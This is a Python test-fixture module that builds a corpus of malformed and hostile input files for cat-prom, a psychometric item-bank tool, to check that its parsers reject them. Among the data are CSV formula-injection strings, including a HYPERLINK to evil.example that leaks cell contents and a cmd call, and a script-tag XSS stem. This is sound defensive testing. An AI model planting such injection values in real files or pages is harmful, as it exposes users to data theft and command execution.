"""The files of the hostile-file corpus (``hostile_corpus.py``): base documents and their variants.

Each ``*_variants`` function lists :class:`Variant` s of one kind of file: bad ones with the message
pattern the rejection must match, legitimate ones that must be accepted. numpy and the standard
library only, so that the corpus also runs against older versions of cat-prom.
"""
from __future__ import annotations

import json
import re
from dataclasses import dataclass, field
from typing import Callable

import numpy as np

# --------------------------------------------------------------------------- base documents
VALUES = [1, 2, 3, 4, 5]
LABELS = ["Never", "Rarely", "Sometimes", "Often", "Always"]
ITEMS = [("Q1", 1.5, [-1.51, -0.52, 0.53, 1.54], "How often did pain stop you working?"),
         ("Q2", 1.8, [-1.02, 0.01, 1.03, 2.04], "How often did pain keep you awake?"),
         ("Q3", 1.2, [-2.05, -1.06, 0.07, 1.08], "How often did pain spoil your mood?"),
         ("Q4", 2.0, [-0.55, 0.36, 1.17, 2.18], "How often did pain keep you at home?"),
         ("Q5", 1.4, [-1.25, -0.26, 0.87, 1.88], "How often did pain stop you walking?")]
NEW_ITEMS = [("N1", 1.6, [-1.3, -0.4, 0.6, 1.6], "New item one"), ("N2", 1.1, [-1.8, -0.7, 0.4, 1.4], "New item two")]
FORMULA_IDS = ["=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3+cmd()", "@SUM(A1)", "Q5"]
FORMULA_STEMS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "\tTabbed question", "\rCarriage return",
                 "-1+1", "@ATTACK()"]
FORMULA_PERSONS = ['=HYPERLINK("http://evil.example","x")', "+1+cmd()", "-cmd()", "@SUM(1)", "\tp5", "\rp6",
                   "-1.25"]
MARKUP_STEM = "<script>alert(1)</script>"


def item_dict(iid, a, thr, stem):
    return {"id": iid, "stem": stem, "options": [{"value": v, "label": lab} for v, lab in zip(VALUES, LABELS)],
            "a": a, "thresholds": list(thr)}


def bank_doc(items=ITEMS, bank_id="hostile") -> dict:
    return {"format": "cat-prom-bank/1", "id": bank_id, "name": "Hostile-file test bank", "version": "1",
            "model": "grm", "metric": {"t_mean": 50, "t_sd": 10, "direction": "higher_is_worse"},
            "start_item": items[0][0], "provenance": {"method": "written by hand for tests", "seed": 7},
            "items": [item_dict(*it) for it in items]}


def dumps(doc) -> str:
    return json.dumps(doc, indent=2, ensure_ascii=False) + "\n"


def sample_grm(items, n, seed) -> np.ndarray:
    """Response values 1..5 of ``n`` persons, θ ~ N(0, 1), by the GRM (independent of cat_prom)."""
    rng = np.random.default_rng(seed)
    theta = rng.normal(size=(n, 1, 1))
    a = np.array([it[1] for it in items])[None, :, None]
    b = np.array([it[2] for it in items])[None, :, :]
    p_star = 1.0 / (1.0 + np.exp(-a * (theta - b)))  # P(X >= k), k = 1..4
    u = rng.random((n, len(items), 1))
    return (u < p_star).sum(axis=2) + 1


def csv_line(cells) -> str:
    """One CSV line (LF-terminated); a cell with a comma, quote, CR or LF is quoted, as RFC 4180 says."""
    def cell(c):
        c = str(c)
        return '"' + c.replace('"', '""') + '"' if any(ch in c for ch in ',"\r\n') else c
    return ",".join(map(cell, cells)) + "\n"


def responses_text(ids, values, persons=None) -> str:
    rows = [csv_line(["id", *ids])]
    for i, row in enumerate(values):
        rows.append(csv_line([persons[i] if persons else f"p{i + 1}", *[int(v) for v in row]]))
    return "".join(rows)


def params_text(items=ITEMS, fmt="csv") -> str:
    if fmt == "csv":
        rows = [csv_line(["item_id", "a", "b1", "b2", "b3", "b4", "model", "stem"])]
        rows += [csv_line([iid, a, *thr, "grm", stem]) for iid, a, thr, stem in items]
    else:
        # R's write.csv: the row names first, under an empty quoted header
        rows = ['"",a,b1,b2,b3,b4\n' if fmt == "mirt" else '"",alphaj,betaj1,betaj2,betaj3,betaj4\n']
        rows += [csv_line([iid, a, *thr]) for iid, a, thr, _ in items]
    return "".join(rows)


# --------------------------------------------------------------------------- variants
@dataclass(frozen=True)
class Variant:
    """One version of a file. ``data`` None means ``path`` names a special file (a folder, nothing, a device)."""

    name: str
    data: bytes | None
    bad: bool
    expect: str | None = None
    path: str | None = None
    ext: str = "json"
    full: frozenset = frozenset()  # slow commands a legitimate variant runs on (the rest only on fast ones)
    items: tuple | None = None  # the item ids, when the variant changes them
    override: dict = field(default_factory=dict)  # command -> (bad, expect)
    skip: frozenset = frozenset()  # commands this variant does not apply to
    isolate: bool = False  # run only in a subprocess with a memory limit (a reader without a size bound dies)


def _sub(text: str, old: str, new: str, count: int = 1) -> str:
    assert old in text, old
    return text.replace(old, new, count)


def _b(text: str) -> bytes:
    return text.encode("utf-8")


def add_column(text: str, name: str, value: Callable[[list], str]) -> str:
    """``text`` (a CSV) with a column ``name`` whose cell in each row is ``value(cells of the row)``."""
    lines = text.splitlines()
    return "\n".join([lines[0] + "," + name] + [ln + "," + value(ln.split(",")) for ln in lines[1:]]) + "\n"


DEEP = "[" * 100_000 + "]" * 100_000


def _mixed_edges(d: dict) -> None:
    """A mixed bank whose GPCM item has a = 20 and steps alternating between +20 and -20."""
    d["model"] = "mixed"
    for it in d["items"]:
        it["model"] = "grm"
    d["items"][2].update(model="gpcm", a=20, thresholds=[20, -20, 20, -20])


def _doc_with(mutate) -> bytes:
    d = bank_doc()
    mutate(d)
    return _b(dumps(d))


def _item0(key, value) -> bytes:
    return _doc_with(lambda d: d["items"][0].__setitem__(key, value))


def _thr(i, j, value) -> bytes:
    return _doc_with(lambda d: d["items"][i]["thresholds"].__setitem__(j, value))


def _nested(depth) -> bytes:
    return _doc_with(lambda d: d["provenance"].__setitem__("nest", json.loads("[" * depth + "]" * depth)))


def bank_variants() -> list[Variant]:
    """Bank files: what the strict JSON reader must reject or accept, then what the bank format must."""
    return _bank_json_variants() + _bank_value_variants()


def _bank_json_variants() -> list[Variant]:
    """What the strict JSON reader decides: syntax, duplicate keys, numbers, nesting, encoding, size."""
    base = dumps(bank_doc())
    big = "1" * 5000
    V = Variant
    nested = _nested
    return [
        V("dup-key-item", _b(_sub(base, '"a": 1.5', '"a": -5, "a": 1.5')), True,
          r"duplicate key 'a' in the object at items\[0\] \(values -5 and 1\.5\)"),
        V("dup-key-top", _b(_sub(base, '"id": "hostile"', '"id": "other", "id": "hostile"')), True,
          r"duplicate key 'id' in the object at the top level"),
        V("dup-key-metric", _b(_sub(base, '"t_sd": 10', '"t_sd": 10, "t_sd": 1')), True,
          r"duplicate key 't_sd' in the object at metric"),
        V("dup-key-option", _b(_sub(base, '"label": "Never"', '"label": "Never", "label": "Always"')), True,
          r"duplicate key 'label' in the object at items\[0\]\.options\[0\]"),
        V("dup-key-provenance", _b(_sub(base, '"seed": 7', '"seed": 7, "seed": 8')), True,
          r"duplicate key 'seed' in the object at provenance"),
        V("int-5000-digits-a", _b(_sub(base, '"a": 1.5', f'"a": {big}')), True,
          r"items\[0\]\.a: the number 1{37}\.\.\. has 5000 digits; at most 100 are allowed"),
        V("int-5000-digits-value", _b(_sub(base, '"value": 1,', f'"value": {big},')), True,
          r"items\[0\]\.options\[0\]\.value: the number 1{37}\.\.\. has 5000 digits"),
        V("int-5000-digits-provenance", _b(_sub(base, '"seed": 7', f'"seed": {big}')), True,
          r"provenance\.seed: the number 1{37}\.\.\. has 5000 digits"),
        V("int-400-digits-t_mean", _b(_sub(base, '"t_mean": 50', f'"t_mean": {"9" * 400}')), True,
          r"metric\.t_mean: the number 9{37}\.\.\. has 400 digits"),
        V("int-101-digits-seed", _b(_sub(base, '"seed": 7', f'"seed": {"3" * 101}')), True, r"has 101 digits"),
        V("int-39-digits-seed", _b(_sub(base, '"seed": 7', f'"seed": {2**128 - 1}')), False),
        V("float-1e400-a", _b(_sub(base, '"a": 1.5', '"a": 1e400')), True,
          r"items\[0\]\.a: the number 1e400 is beyond the range of a double"),
        V("float-minus-1e400-threshold", _b(_sub(base, "-1.51", "-1e400")), True,
          r"items\[0\]\.thresholds\[0\]: the number -1e400 is beyond the range"),
        V("NaN-a", _b(_sub(base, '"a": 1.5', '"a": NaN')), True,
          r"bank file contains NaN; only finite numbers are allowed \(at items\[0\]\.a\)"),
        V("Infinity-threshold", _b(_sub(base, "1.54", "Infinity")), True,
          r"bank file contains Infinity; only finite numbers are allowed \(at items\[0\]\.thresholds\[3\]\)"),
        V("minus-Infinity-t_sd", _b(_sub(base, '"t_sd": 10', '"t_sd": -Infinity')), True,
          r"bank file contains -Infinity"),
        V("nested-100000-arrays", _b(_sub(base, '"seed": 7', f'"seed": {DEEP}')), True, r"nested too deeply"),
        V("nested-100000-objects", _b(_sub(base, '"seed": 7', '"seed": ' + '{"x": ' * 100_000 + "1" + "}" * 100_000)),
          True, r"nested too deeply"),
        V("nested-80-levels", nested(80), True, r"nested too deeply \(more than 64 levels"),
        V("nested-40-levels", nested(40), False),
        V("invalid-utf8", _sub(base, "stop you working", "stop you w\udcffrking").encode("utf-8", "surrogateescape"),
          True, r"bank file is not UTF-8 text \(byte 0xff at line \d+ column \d+\)"),
        V("latin-1", _sub(base, "spoil your mood", "spoil your humeur (café)").encode("latin-1"), True,
          r"not UTF-8 text \(byte 0xe9 at line"),
        V("utf-16", base.encode("utf-16"), True, r"bank file is UTF-16 text, not UTF-8"),
        V("bom", b"\xef\xbb\xbf" + _b(base), False),
        V("crlf", _b(base.replace("\n", "\r\n")), False),
        V("bom-crlf", b"\xef\xbb\xbf" + _b(base.replace("\n", "\r\n")), False, full=frozenset()),
        V("mixed-line-endings", _b(base.replace(",\n", ",\r\n", 7)), False),
        V("one-long-line", _b(json.dumps(bank_doc(), separators=(",", ":"))), False),
        V("long-provenance-line", _b(_sub(base, '"seed": 7', f'"seed": 7, "note": "{"n" * 1_000_000}"')), False),
        V("empty", b"", True, r"bank file is empty"),
        V("whitespace-only", b" \r\n\t \n", True, r"bank file is empty"),
        V("NUL-after-value", _b(_sub(base, '"a": 1.5', '"a": 1.5\x00')), True,
          r"bank file contains a NUL byte at line \d+ column \d+"),
        V("NUL-at-end", _b(base) + b"\x00", True, r"bank file contains a NUL byte at line \d+ column 1"),
        V("escaped-NUL-in-stem", _b(_sub(base, "stop you working", "stop you\\u0000working")), True,
          r"items\[0\]\.stem: a NUL character"),
        V("escaped-NUL-in-key", _b(_sub(base, '"seed": 7', '"se\\u0000ed": 7')), True,
          r"a NUL character \(\\u0000\) in a key at provenance"),
        V("trailing-garbage", _b(base + "x"), True, r"bank file is not valid JSON: Extra data at line \d+ column 1"),
        V("two-documents", _b(base + base), True, r"is not valid JSON: Extra data"),
        V("truncated", _b(base[: len(base) // 2]), True, r"bank file is not valid JSON: .* at line \d+ column \d+"),
        V("comment", _b("// a bank\n" + base), True, r"is not valid JSON: Expecting value at line 1 column 1"),
        V("trailing-comma", _b(_sub(base, '"seed": 7', '"seed": 7,')), True, r"is not valid JSON"),
        V("single-quotes", _b(base.replace('"', "'")), True, r"is not valid JSON"),
        V("top-level-array", _b("[" + base + "]"), True, r"a bank must be a JSON object, got list"),
        V("top-level-null", b"null", True, r"a bank must be a JSON object, got NoneType"),
        V("top-level-NaN", b"NaN", True, r"bank file contains NaN"),
        V("huge-file", None, True, r"is 22020096 bytes; the limit is 20971520"),
        V("a-folder", None, True, r"it is a folder"),
        V("missing", None, True, r"No such file or directory"),
        V("dev-zero", None, True, r"bank file '/dev/zero' is more than 20971520 bytes; the limit is 20971520",
          path="/dev/zero", isolate=True),
    ]


def _bank_value_variants() -> list[Variant]:
    """What the bank format decides: parameter ranges, types, ids, hash; and legitimate odd content."""
    V = Variant
    doc_with, item0, thr = _doc_with, _item0, _thr
    return [
        V("good", _b(dumps(bank_doc())), False, full=frozenset({"calibrate --anchor"})),
        V("dup-item-id", doc_with(lambda d: d["items"][1].__setitem__("id", "Q1")), True, r"duplicate item id 'Q1'"),
        V("a-1e308", item0("a", 1e308), True, r"item 'Q1': slope a must be at most 20, got 1e\+308"),
        V("a-21", item0("a", 21), True, r"item 'Q1': slope a must be at most 20, got 21"),
        V("a-zero", item0("a", 0), True, r"item 'Q1': slope a must be > 0"),
        V("a-negative", item0("a", -1.46), True, r"item 'Q1': slope a must be > 0, got -1\.46"),
        V("a-20-boundary", item0("a", 20), False, full=frozenset()),
        V("thresholds-at-plus-minus-20", item0("thresholds", [-20, -1, 1, 20]), False),
        V("gpcm-reversed-steps-at-the-edges", doc_with(_mixed_edges), False, full=frozenset({"simulate"}),
          skip=frozenset({"bank export catr", "link (new bank)", "link (--to bank)"})),  # one model there
        V("threshold-minus-1e308", thr(0, 0, -1e308), True,
          r"item 'Q1': thresholds\[0\] \(b1\) must be within ±20 on the θ metric, got -1e\+308"),
        V("threshold-plus-1e308", thr(0, 3, 1e308), True, r"item 'Q1': thresholds\[3\] \(b4\) must be within ±20"),
        V("thresholds-as-T-scores", item0("thresholds", [40, 45, 55, 60]), True,
          r"item 'Q1': thresholds\[0\] \(b1\) must be within ±20 on the θ metric, got 40"),
        V("t_sd-1e308", doc_with(lambda d: d["metric"].__setitem__("t_sd", 1e308)), True,
          r"metric\.t_sd must be at most 1000, got 1e\+308"),
        V("t_mean-minus-1e308", doc_with(lambda d: d["metric"].__setitem__("t_mean", -1e308)), True,
          r"metric\.t_mean must be within ±1000"),
        V("a-as-string", item0("a", "1.5"), True, r"item 'Q1': a must be a number, got str"),
        V("a-as-boolean", item0("a", True), True, r"item 'Q1': a must be a number, got bool"),
        V("stem-1MB", item0("stem", "s" * 1_000_000), True, r"stem is longer than 2000 characters"),
        V("unknown-key", doc_with(lambda d: d.__setitem__("colour", "red")), True, r"unknown key 'colour'"),
        V("id-101-chars", doc_with(lambda d: d["items"][0].__setitem__("id", "i" * 101)), True,
          r"items\[0\]\.id must be a non-empty string of at most 100 characters"),
        V("20001-items", _b(json.dumps({**bank_doc(), "items": [{"id": f"I{k}", "a": 1, "thresholds": [0]}
                                                                 for k in range(20001)]}, separators=(",", ":"))), True,
          r"20001 items exceeds the limit of 20000"),
        V("stale-content-hash", doc_with(lambda d: d.__setitem__("content_hash", "sha256:" + "0" * 64)), True,
          r"content_hash does not match the content", override={"bank validate --fix-hash": (False, None)}),
        V("formula-ids-and-stems", _b(dumps(bank_doc([(i, *it[1:3], s) for i, it, s in
                                                      zip(FORMULA_IDS, ITEMS, FORMULA_STEMS)]))), False,
          full=frozenset({"simulate"}),
          items=tuple(FORMULA_IDS)),
        V("stems-with-line-breaks", _b(dumps(bank_doc([(it[0], it[1], it[2], s) for it, s in zip(ITEMS, [
            "Line one\rline two", "Line one\nline two", "Comma, and \"quotes\"", "Tab\there", "Both\r\nends"])]))),
          False, full=frozenset()),
        V("markup-stems", _b(dumps(bank_doc([(it[0], it[1], it[2], MARKUP_STEM) for it in ITEMS]))), False,
          full=frozenset({"bank report"})),
    ]


def csv_variants(base: str, *, first_value: str, kind: str) -> list[Variant]:
    """Variants of a CSV whose line 2 starts ``<id>,<first_value>,`` (a response or parameter table)."""
    V = Variant
    line2 = base.splitlines()[1]
    head = base.splitlines()[0]
    n_cols = len(head.split(","))
    v = first_value
    out = [
        V("good", _b(base), False, ext="csv", full=frozenset({"bank report --responses"})),
        V("NUL-after-value", _b(_sub(base, f",{v},", f",{v}\x00,")), True,
          r"line 2, column 2: a NUL byte \(\\x00\) in the file", ext="csv"),
        V("NUL-in-id", _b(_sub(base, line2, "\x00" + line2)), True, r"line 2, column 1: a NUL byte", ext="csv"),
        V("invalid-utf8", _sub(base, line2, line2 + "\udcff").encode("utf-8", "surrogateescape"), True,
          r"line 2: not UTF-8 text \(byte 0xff\)", ext="csv"),
        V("latin-1", _sub(base, line2.split(",")[0], line2.split(",")[0] + "é", 1).encode("latin-1"), True,
          r"line 2: not UTF-8 text \(byte 0xe9\)", ext="csv"),
        V("utf-16", base.encode("utf-16"), True, r"is UTF-16 text", ext="csv"),
        V("bom", b"\xef\xbb\xbf" + _b(base), False, ext="csv"),
        V("crlf", _b(base.replace("\n", "\r\n")), False, ext="csv", full=frozenset({"calibrate"})),
        V("cr-only", _b(base.replace("\n", "\r")), False, ext="csv"),
        V("bom-crlf-quoted", b"\xef\xbb\xbf" + _b("\r\n".join(",".join(f'"{c}"' for c in ln.split(","))
                                                            for ln in base.splitlines()) + "\r\n"), False, ext="csv"),
        V("mixed-quoting", _b(_sub(base, line2, ",".join(f'"{c}"' if k % 2 else c
                                                          for k, c in enumerate(line2.split(","))))), False, ext="csv"),
        V("blank-lines", _b(base.replace("\n", "\n\n", 3)), False, ext="csv"),
        V("empty", b"", True, r"is empty; it needs a header line", ext="csv"),
        V("whitespace-only", b"\n \n\r\n", True, r"is empty", ext="csv"),
        V("ragged-long", _b(_sub(base, line2, line2 + ",9")), True,
          rf"line 2: has {n_cols + 1} cells but the header \(line 1\) has {n_cols} columns", ext="csv"),
        V("ragged-short", _b(_sub(base, line2, line2.rsplit(",", 1)[0])), True, r"line 2: has \d+ cells but",
          ext="csv"),
        V("unclosed-quote", _b(_sub(base, line2, '"' + line2)), True,
          r"line \d+: (malformed CSV|a cell longer than)", ext="csv"),
        V("quote-inside-cell", _b(_sub(base, line2, '"' + line2.split(",")[0] + '"x,' + line2.split(",", 1)[1])), True,
          r"line 2: malformed CSV", ext="csv"),
        V("cell-200k-chars", _b(_sub(base, line2, "x" * 200_000 + line2)), True,
          r"line 2: a cell longer than 131072 characters", ext="csv"),
        V("30000-columns", _b(head + "," + ",".join(f"X{k}" for k in range(30000 - n_cols)) + "\n"), True,
          r"line 1: 30000 columns; at most 20001", ext="csv"),
        V("duplicate-column", _b(add_column(base, head.split(",")[1], lambda cells: cells[1])), True,
          rf"line 1, column {n_cols + 1} \('{re.escape(head.split(',')[1])}'\): duplicate column name", ext="csv"),
        V("semicolons", _b(base.replace(",", ";")), True, r"line 1: the cells are separated by ';'", ext="csv"),
        V("tabs", _b(base.replace(",", "\t")), True, r"line 1: the cells are separated by tabs", ext="csv"),
        V("a-folder", None, True, r"it is a folder", ext="csv"),
        V("missing", None, True, r"No such file or directory", ext="csv"),
    ]
    return out


def response_variants(base: str, ids) -> list[Variant]:
    V = Variant
    lines = base.splitlines()
    first = lines[1].split(",")[1]
    big = "1" * 5000
    out = csv_variants(base, first_value=first, kind="responses")
    no_rows = {"simulate --responses": (True, r"no persons"), "calibrate": (True, r"no persons"),
               "bank report --responses": (True, r"no persons")}
    out += [
        V("duplicate-person-id", _b(_sub(base, "\np2,", "\np1,")), True,
          r"line 3, column 'id': person id 'p1' also on line 2", ext="csv"),
        V("empty-person-id", _b(_sub(base, "\np2,", "\n,")), True, r"line 3, column 'id': empty person id", ext="csv"),
        V("formula-person-ids", _b(responses_text(ids, [ln.split(",")[1:] for ln in lines[1:]],
                                                  FORMULA_PERSONS + [f"p{k}" for k in range(len(FORMULA_PERSONS) + 1,
                                                                                            len(lines))])),
          False, ext="csv", full=frozenset({"simulate --responses", "calibrate"})),
        V("header-only", _b(lines[0] + "\n"), False, ext="csv", override=no_rows),
        V("first-column-not-id", _b(_sub(base, "id,", "person,")), True, r"the first column must be 'id'", ext="csv"),
        V("unknown-item", _b(add_column(base, "Q9", lambda cells: cells[1])), True,
          r"line 1, column 7 \('Q9'\): 'Q9' is not an item of bank 'hostile'", ext="csv",
          skip=frozenset({"calibrate"})),  # a new item for a calibration (here a copy of Q1: not calibratable)
        V("value-1e308", _b(_sub(base, f",{first},", ",1e308,")), True,
          r"line 2, column 'Q1': '1e308' is not a response value", ext="csv"),
        V("value-5000-digits", _b(_sub(base, f",{first},", f",{big},")), True,
          r"line 2, column 'Q1': '1{37}'\.\.\. \(5000 characters\) is not a", ext="csv"),
        V("value-inf", _b(_sub(base, f",{first},", ",inf,")), True, r"line 2, column 'Q1': 'inf' is not a", ext="csv"),
        V("value-nan-is-missing", _b(_sub(base, f",{first},", ",nan,")), False, ext="csv"),
        V("value-minus-1", _b(_sub(base, f",{first},", ",-1,")), True, r"line 2, column 'Q1': .*-1", ext="csv"),
        V("value-formula", _b(_sub(base, f",{first},", ",=1+1,")), True, r"line 2, column 'Q1': '=1\+1' is not a",
          ext="csv"),
        V("all-missing-row", _b(_sub(base, lines[1], lines[1].split(",")[0] + "," * len(ids))), False, ext="csv"),
    ]
    return out


def params_variants(fmt: str) -> list[Variant]:
    V = Variant
    base = params_text(fmt=fmt)
    line2 = base.splitlines()[1]
    acol = {"csv": "a", "mirt": "a", "catr": "alphaj"}[fmt]
    out = [v for v in csv_variants(base, first_value="1.5", kind="params")
           if v.name not in ("cell-200k-chars",)]  # an id of 200k characters: see "long-id" below
    out += [
        V("a-1e308", _b(_sub(base, ",1.5,", ",1e308,")), True,
          r"line 2: item 'Q1': slope a must be at most 20, got 1e\+308", ext="csv"),
        V("a-21", _b(_sub(base, ",1.5,", ",21,")), True, r"line 2: item 'Q1': slope a must be at most 20", ext="csv"),
        V("a-20", _b(_sub(base, ",1.5,", ",20,")), False, ext="csv"),
        V("a-negative", _b(_sub(base, ",1.5,", ",-1.5,")), True, r"line 2: item 'Q1': slope a must be > 0", ext="csv"),
        V("a-5000-digits", _b(_sub(base, ",1.5,", f",{'1' * 5000},")), True,
          rf"line 2, column '{acol}': '1{{37}}'\.\.\. \(5000 characters\) is not a finite number", ext="csv"),
        V("a-nan", _b(_sub(base, ",1.5,", ",nan,")), True, rf"line 2, column '{acol}': 'nan' is not a finite number",
          ext="csv"),
        V("a-not-a-number", _b(_sub(base, ",1.5,", ",1.5.1,")), True, r"'1\.5\.1' is not a number", ext="csv"),
        V("threshold-minus-1e308", _b(_sub(base, ",-1.51,", ",-1e308,")), True,
          r"line 2: item 'Q1': thresholds\[0\] \(b1\) must be within ±20", ext="csv"),
        V("threshold-plus-1e308", _b(_sub(base, ",1.54", ",1e308")), True,
          r"line 2: item 'Q1': thresholds\[3\] \(b4\) must be within ±20", ext="csv"),
        V("thresholds-as-T-scores", _b(_sub(base, "-1.51,-0.52,0.53,1.54", "40,45,55,60")), True,
          r"line 2: item 'Q1': thresholds\[0\] \(b1\) must be within ±20 on the θ metric, got 40", ext="csv"),
        V("duplicate-item-id", _b(_sub(base, "\nQ2,", "\nQ1,")), True,
          r"line 3: duplicate item id 'Q1' \(also on line 2\)",
          ext="csv"),
        V("header-only", _b(base.splitlines()[0] + "\n"), True, r"no items \(the file has a header but no rows\)",
          ext="csv"),
        V("formula-ids", _b(params_text([(i, *it[1:]) for i, it in zip(FORMULA_IDS, ITEMS)], fmt)), False, ext="csv"),
        V("long-id", _b(_sub(base, line2, "i" * 200 + line2)), True, r"must be a non-empty string of at most 100",
          ext="csv"),
    ]
    if fmt == "csv":
        out += [V("formula-stems", _b(params_text([(*it[:3], s) for it, s in zip(ITEMS, FORMULA_STEMS)])), False,
                  ext="csv"),
                V("stem-3000-chars", _b(_sub(base, ITEMS[0][3], "s" * 3000)), True,
                  r"line 2: item 'Q1': stem is longer than 2000 characters", ext="csv"),
                V("unknown-column", _b(add_column(base, "colour", lambda cells: "red")), True,
                  r"line 1, column 9 \('colour'\): unknown column", ext="csv")]
    return out


def design_variants() -> list[Variant]:
    V = Variant
    base = dumps({"max_items": 4, "se_target": 0.5, "prior": {"mean": 0, "sd": 1}})
    return [
        V("good", _b(base), False, full=frozenset()),
        V("bom-crlf", b"\xef\xbb\xbf" + _b(base.replace("\n", "\r\n")), False, full=frozenset({"simulate --design"})),
        V("dup-key", _b(_sub(base, '"max_items": 4', '"max_items": 40, "max_items": 4')), True,
          r"duplicate key 'max_items' in the object at the top level"),
        V("dup-key-nested", _b(_sub(base, '"sd": 1', '"sd": 1, "sd": 5')), True,
          r"duplicate key 'sd' in the object at prior"),
        V("NaN", _b(_sub(base, '"se_target": 0.5', '"se_target": NaN')), True,
          r"design file contains NaN; only finite numbers are allowed \(at se_target\)"),
        V("int-5000-digits", _b(_sub(base, '"max_items": 4', f'"max_items": {"1" * 5000}')), True,
          r"max_items: the number 1{37}\.\.\. has 5000 digits"),
        V("float-1e400", _b(_sub(base, '"se_target": 0.5', '"se_target": 1e400')), True, r"beyond the range"),
        V("nested-100000", _b(_sub(base, '"se_target": 0.5', f'"se_target": {DEEP}')), True, r"nested too deeply"),
        V("utf-16", base.encode("utf-16"), True, r"design file is UTF-16 text"),
        V("invalid-utf8", _b(base).replace(b"se_target", b"se_t\xffrget"), True,
          r"design file is not UTF-8 text \(byte 0xff"),
        V("empty", b"", True, r"design file is empty"),
        V("NUL", _b(base) + b"\x00", True, r"design file contains a NUL byte"),
        V("top-level-array", b"[]", True, r"a design must be a JSON object"),
        V("unknown-key", _b(_sub(base, '"max_items": 4', '"max_itmes": 4')), True, r"unknown design key 'max_itmes'"),
        V("grid-1e308", _b(_sub(base, '"se_target": 0.5', '"grid": {"min": -1e308, "max": 1e308}')), True,
          r"design key 'grid\.min' must be >= -20"),
        V("max_items-1e308", _b(_sub(base, '"max_items": 4', '"max_items": 1e308')), True,
          r"design key 'max_items' must be <= 10000"),
        V("prior-sd-1e-308", _b(_sub(base, '"sd": 1', '"sd": 1e-308')), True,
          r"design key 'prior\.sd' must be >= 0\.05"),
        V("trailing-garbage", _b(base + "}"), True, r"design file is not valid JSON: Extra data"),
        V("a-folder", None, True, r"it is a folder"),
        V("missing", None, True, r"No such file or directory"),
    ]


def battery_variants() -> list[Variant]:
    V = Variant
    base = dumps({"id": "core", "name": "Core battery", "banks": ["pain", "sleep"],
                  "designs": {"sleep": {"max_items": 5}}})
    return [
        V("good", _b(base), False),
        V("bom-crlf", b"\xef\xbb\xbf" + _b(base.replace("\n", "\r\n")), False),
        V("dup-key", _b(_sub(base, '"id": "core"', '"id": "x", "id": "core"')), True,
          r"duplicate key 'id' in the object at the top level"),
        V("dup-key-designs", _b(_sub(base, '"max_items": 5', '"max_items": 5, "max_items": 30')), True,
          r"duplicate key 'max_items' in the object at designs\.sleep"),
        V("NaN", _b(_sub(base, '"max_items": 5', '"max_items": NaN')), True, r"contains NaN"),
        V("int-5000-digits", _b(_sub(base, '"max_items": 5', f'"max_items": {"1" * 5000}')), True, r"has 5000 digits"),
        V("nested-100000", _b(_sub(base, '"max_items": 5', f'"max_items": {DEEP}')), True, r"nested too deeply"),
        V("utf-16", base.encode("utf-16"), True, r"UTF-16 text"),
        V("invalid-utf8", _b(base).replace(b"Core", b"C\xffre"), True, r"not UTF-8 text \(byte 0xff"),
        V("empty", b"", True, r"empty"),
        V("NUL", _b(_sub(base, '"core"', '"co\\u0000re"')), True, r"id: a NUL character"),
        V("top-level-array", b"[1]", True, r"a battery must be a JSON object"),
        V("unknown-key", _b(_sub(base, '"name"', '"nmae"')), True, r"unknown key"),
        V("a-folder", None, True, r"it is a folder"),
        V("missing", None, True, r"cannot read"),
    ]


def stems_variants() -> list[Variant]:
    V = Variant
    base = "item_id,stem\n" + "".join(csv_line([iid, stem]) for iid, _, _, stem in ITEMS)
    return [
        V("good", _b(base), False, ext="csv", full=frozenset({"calibrate --stems"})),
        V("formula-stems", _b("item_id,stem\n" + "".join(csv_line([it[0], s]) for it, s in zip(ITEMS, FORMULA_STEMS))),
          False, ext="csv", full=frozenset({"calibrate --stems"})),
        V("NUL", _b(_sub(base, "working", "work\x00ing")), True, r"line 2, column 2: a NUL byte", ext="csv"),
        V("duplicate-item", _b(base + "Q1,again\n"), True, r"duplicate item 'Q1' \(also on line 2\)", ext="csv"),
        V("unknown-item", _b(base + "Q9,x\n"), True, r"'Q9' is not an item column", ext="csv"),
        V("invalid-utf8", _b(base)[:-2] + b"\xff\n", True, r"not UTF-8 text", ext="csv"),
    ]
